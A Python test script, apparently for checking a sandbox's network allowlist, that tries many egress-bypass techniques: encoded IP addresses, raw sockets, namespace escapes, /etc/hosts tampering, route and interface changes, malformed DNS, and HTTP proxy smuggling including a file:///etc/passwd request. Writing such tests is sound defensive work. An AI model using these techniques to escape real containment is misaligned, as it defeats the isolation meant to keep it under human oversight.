"""A program for a stage that tries every way to a host that is not on its list.

It prints the name of each way that it has tried; whether one leads anywhere, the hosts say.
"""

WAYS = r"""
import ctypes, fcntl, json, os, socket, struct, subprocess, sys, threading
WANTED = {tuple(one) for one in json.loads(sys.argv[1])}
OTHER, OTHER6 = "10.99.0.3", "fd99::3"
PROXY = tuple(os.environ["https_proxy"].removeprefix("http://").split(":"))
libc = ctypes.CDLL(None, use_errno=True)

def way(function):
    def tried():
        try:
            function()
        except (OSError, ValueError, AttributeError, subprocess.SubprocessError):
            pass
    thread = threading.Thread(target=tried, daemon=True)
    thread.start()
    thread.join(8)
    print(function.__name__, flush=True)

def tcp(address, port, family=socket.AF_INET, protocol=0, **options):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as one:
        one.settimeout(1)
        one.connect((address, port))
        one.sendall(b"out")

def udp(address, port, family=socket.AF_INET, protocol=0):
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as one:
        one.settimeout(1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        one.sendto(b"out", (address, port))

def through_proxy(text):
    with socket.create_connection((PROXY[0], int(PROXY[1])), 3) as one:
        one.settimeout(1)
        one.sendall(text.encode())
        return one.makefile("rb").read()

def connect(target, more=""):
    return through_proxy(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{more}\r\n")

def run(*argv):
    subprocess.run(argv, timeout=5, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

@way
def tcp_to_an_address(): tcp(OTHER, 8443)
@way
def tcp_to_the_real_address_of_a_listed_one(): tcp("10.99.0.2", 8443)
@way
def tcp_to_another_port_of_a_listed_name(): tcp("api.example.test", 9000)
@way
def tcp_to_another_port_of_a_listed_address(): tcp("10.99.0.5", 7001)
@way
def tcp_six(): tcp(OTHER6, 8443, socket.AF_INET6)
@way
def tcp_mapped(): tcp("::ffff:" + OTHER, 8443, socket.AF_INET6)
@way
def tcp_nat64(): tcp("64:ff9b::0a63:3", 8443, socket.AF_INET6)
@way
def tcp_as_a_number(): tcp(str(0x0A630003), 8443)
@way
def tcp_as_octal(): tcp("012.0143.0.03", 8443)
@way
def tcp_to_the_machines_loopback(): tcp("127.0.0.1", 7200)
@way
def tcp_to_the_machines_loopback_six(): tcp("::1", 7200, socket.AF_INET6)
@way
def tcp_to_nowhere(): tcp("0.0.0.0", 7200)
@way
def tcp_by_name(): socket.create_connection(("other.example.test", 8443), 3)
@way
def tcp_by_name_six(): socket.create_connection(("six.example.test", 8443), 3)
@way
def tcp_multipath(): tcp(OTHER, 8443, protocol=262)
@way
def tcp_fast_open():
    with socket.socket() as one:
        one.sendto(b"out", 0x20000000, (OTHER, 8443))
@way
def tcp_bound_to_an_interface():
    with socket.socket() as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")
        one.connect((OTHER, 8443))
@way
def tcp_not_blocking():
    with socket.socket() as one:
        one.setblocking(False)
        one.connect_ex((OTHER, 8443))
        import select
        select.select([], [one], [], 2)
        one.send(b"out")
@way
def udp_to_an_address(): udp(OTHER, 8443)
@way
def udp_to_a_listed_one(): udp("10.99.0.2", 8443)
@way
def udp_to_a_listed_name(): udp(socket.gethostbyname("api.example.test"), 8443)
@way
def udp_six(): udp(OTHER6, 8443, socket.AF_INET6)
@way
def udp_lite(): udp(OTHER, 8443, protocol=136)
@way
def udp_broadcast(): udp("255.255.255.255", 8443)
@way
def udp_multicast(): udp("224.0.0.251", 8443)
@way
def udp_multicast_six(): udp("ff02::1", 8443, socket.AF_INET6)
@way
def sctp(): tcp(OTHER, 8443, protocol=132)
@way
def dccp():
    with socket.socket(socket.AF_INET, 6, 33) as one:
        one.connect((OTHER, 8443))
@way
def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as one:
        one.sendto(b"\x08\0\0\0\0\0\0\0", (OTHER, 0))
@way
def raw():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as one:
        one.sendto(b"\x45" + b"\0" * 27, (OTHER, 0))
@way
def packets():
    with socket.socket(17, socket.SOCK_RAW, 3) as one:
        one.bind(("lo", 0))
        one.send(b"\0" * 64)
@way
def virtual_machines():
    with socket.socket(40, socket.SOCK_STREAM) as one:
        one.settimeout(1)
        one.connect((2, 8443))
@way
def names_by_udp(): udp("10.99.0.53", 53)
@way
def names_of_ours_for_another():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(1)
        question = b"\0\1\1\0\0\1\0\0\0\0\0\0\5other\7example\4test\0\0\1\0\1"
        one.sendto(question, ("127.66.255.53", 53))
        assert one.recv(512)[3] & 15 == 3
@way
def names_of_odd_forms():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        head = b"\0\1\1\0\0\1\0\0\0\0\0\0"
        for rest in (b"\xc0\x0c\0\1\0\1", b"\x3f", b"\1a" * 400, b"\3a.b\0\0\1\0\1"):
            one.sendto(head + rest, ("127.66.255.53", 53))
        for whole in (b"", b"\0" * 12):
            one.sendto(whole, ("127.66.255.53", 53))
@way
def names_in_the_file():
    with open("/etc/hosts", "a") as file:
        file.write("10.99.0.3 api.example.test\n")
@way
def mounting_names():
    libc.mount(b"/proc/self/environ", b"/etc/hosts", None, 4096, None)
    run("mount", "--bind", "README", "/etc/hosts")
@way
def another_namespace():
    for pid in (1, os.getppid()):
        handle = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        libc.setns(handle, 0)
    tcp(OTHER, 8443)
@way
def a_new_namespace():
    libc.unshare(0x10000000 | 0x40000000)
    tcp(OTHER, 8443)
@way
def a_new_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        request = struct.pack("16sHH4s8x", b"lo:9", socket.AF_INET, 0, socket.inet_aton(OTHER))
        fcntl.ioctl(one, 0x8916, request)
    tcp(OTHER, 8443)
@way
def a_new_interface():
    run("ip", "link", "add", "out0", "type", "dummy")
    run("ip", "route", "add", "default", "dev", "lo")
    tcp(OTHER, 8443)
@way
def a_tunnel():
    handle = os.open("/dev/net/tun", os.O_RDWR)
@way
def abstract_sockets():
    for line in open("/proc/net/unix"):
        pass
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0out")
@way
def keys_of_the_kernel():
    libc.syscall(425, 8, None)
@way
def proxy_by_name(): connect("other.example.test:8443")
@way
def proxy_by_address(): connect(OTHER + ":8443")
@way
def proxy_six(): connect(f"[{OTHER6}]:8443")
@way
def proxy_to_loopback(): connect("127.0.0.1:7200")
@way
def proxy_to_another_port(): connect("a.wild.test:9000")
@way
def proxy_to_a_name_that_leads_home(): connect("evil.wild.test:8443")
@way
def proxy_to_a_listed_name_that_leads_home(): connect("near.example.test:8443")
@way
def tcp_to_a_listed_name_that_leads_home(): tcp("near.example.test", 8443)
@way
def proxy_past_the_pattern(): connect("a.wild.test.other.example.test:8443")
@way
def proxy_the_pattern_itself(): connect("*.wild.test:8443")
@way
def proxy_with_a_user(): connect("a.wild.test:8443@other.example.test:8443")
@way
def proxy_with_a_host_line():
    connect("a.wild.test:8443", "X-Forwarded-Host: other.example.test\r\n")
@way
def proxy_split():
    two = ("a.wild.test", "other.example.test")
    through_proxy("".join(f"CONNECT {name}:8443 HTTP/1.1\r\nHost: a\r\n\r\n" for name in two))
@way
def proxy_smuggled():
    through_proxy("GET http://a.wild.test:8443\r\nHost: other.example.test HTTP/1.1\r\n\r\n")
@way
def proxy_plain():
    through_proxy("GET http://other.example.test/ HTTP/1.1\r\nHost: a.wild.test\r\n\r\n")
@way
def proxy_file():
    through_proxy("GET file:///etc/passwd HTTP/1.1\r\nHost: a.wild.test\r\n\r\n")
@way
def proxy_nothing(): through_proxy("\r\n\r\n" + "x" * 200000)
@way
def proxy_null(): connect("other.example.test\0.wild.test:8443")
"""
